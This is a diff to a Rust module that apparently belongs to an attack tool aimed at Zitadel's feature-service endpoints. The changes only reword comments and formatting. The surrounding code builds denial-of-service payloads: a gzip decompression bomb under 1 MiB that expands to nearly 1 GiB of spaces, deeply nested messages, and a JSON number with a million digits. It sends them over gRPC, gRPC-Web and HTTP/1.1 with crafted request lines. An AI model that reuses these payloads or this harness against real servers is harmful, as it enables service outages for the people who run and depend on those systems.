@@ -1,4 +1,4 @@
-//! Small messages that become large, or deep, when they are read.
+//! Small messages that become large or deep when the server reads them.
 
 use std::io;
 use std::sync::LazyLock;
@@ -14,7 +14,7 @@ use crate::attack::wire::{Pace, Wire};
 
 const SET: &str = "/zitadel.feature.v2.FeatureService/SetInstanceFeatures";
 
-/// The largest message that is allowed by default.
+/// The default maximum size of a message.
 const MESSAGE_BYTES: usize = 1 << 20;
 
 pub const ATTACKS: [Attack; 7] = [
@@ -30,15 +30,17 @@ pub const ATTACKS: [Attack; 7] = [
     Attack::new("long JSON", (40, "MB"), 4, |wire, pace| Box::pin(http1(wire, pace, PLAIN, long()))),
 ];
 
-/// The first lines of requests, but for what all have. Their methods are those that take the largest messages: whoever
-/// has a token may send them.
-const CONNECT: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\ncontent-type: application/json\r\ncontent-encoding: gzip";
+/// The first lines of requests, without the headers that all of them share. Their methods accept the largest messages,
+/// and every caller with a token may send them.
+const CONNECT: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\n\
+    content-type: application/json\r\ncontent-encoding: gzip";
 const PLAIN: &str =
     "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\ncontent-type: application/json";
 const REST: &str = "PUT /v2/features/instance HTTP/1.1\r\ncontent-type: application/json\r\ncontent-encoding: gzip";
-const WEB: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\ncontent-type: application/grpc-web+proto\r\ngrpc-encoding: gzip";
+const WEB: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\n\
+    content-type: application/grpc-web+proto\r\ngrpc-encoding: gzip";
 
-/// A connection for each bomb, so that no window is in its way.
+/// One connection for each bomb, so that flow control does not slow it down.
 async fn grpc(mut wire: Wire, pace: &mut Pace, block: Block) -> io::Result<()> {
     wire.http2().await?;
     let bomb = message(true, gzipped().len() as u32, gzipped());
@@ -60,16 +62,16 @@ async fn http1(mut wire: Wire, pace: &mut Pace, head: &str, body: &[u8]) -> io::
     go_off(wire, pace).await
 }
 
-/// Leaves the server the time of a bomb.
+/// Gives the server time to decompress a bomb.
 async fn go_off(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
     const FUSE: Duration = Duration::from_millis(100);
     pace.keep(1).await;
-    // It may close the connection, and it may keep it.
+    // The server may close the connection or keep it.
     let _ = timeout(FUSE, wire.closed()).await;
     Ok(())
 }
 
-/// A gzip file of less than 1 MiB that grows to nearly a GiB of spaces.
+/// A gzip file of less than 1 MiB that grows to nearly 1 GiB of spaces.
 fn gzipped() -> &'static [u8] {
     static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
         const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
@@ -80,7 +82,7 @@ fn gzipped() -> &'static [u8] {
             compress.compress_vec(&spaces, &mut part, FlushCompress::Full).expect("there is room for it");
             part
         };
-        // After a full flush nothing refers to what was before: the second part can be repeated.
+        // After a full flush, later data does not refer to earlier data, so the second part can be repeated.
         let mut bomb = [&HEADER[..], &flushed()].concat();
         let part = flushed();
         bomb.extend(part.repeat((MESSAGE_BYTES - 1_000 - bomb.len()) / part.len()));
@@ -89,7 +91,7 @@ fn gzipped() -> &'static [u8] {
     &BOMB
 }
 
-/// The bomb as a message of gRPC-Web.
+/// The bomb as a gRPC-Web message.
 fn framed() -> &'static [u8] {
     static FRAMED: LazyLock<Vec<u8>> = LazyLock::new(|| message(true, gzipped().len() as u32, gzipped()));
     &FRAMED
@@ -100,7 +102,7 @@ fn deep() -> &'static [u8] {
     &DEEP
 }
 
-/// A number of a million digits.
+/// A number with a million digits.
 fn long() -> &'static [u8] {
     static LONG: LazyLock<Vec<u8>> =
         LazyLock::new(|| [&br#"{"service":"#[..], &b"9".repeat(MESSAGE_BYTES - 100), b"}"].concat());
@@ -114,7 +116,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_bomb_is_small_and_large() {
+    fn a_bomb_is_small_and_decompresses_to_much() {
         assert!(gzipped().len() < MESSAGE_BYTES, "{}", gzipped().len());
         let mut part = Vec::new();
         let wanted = 64 << 20;
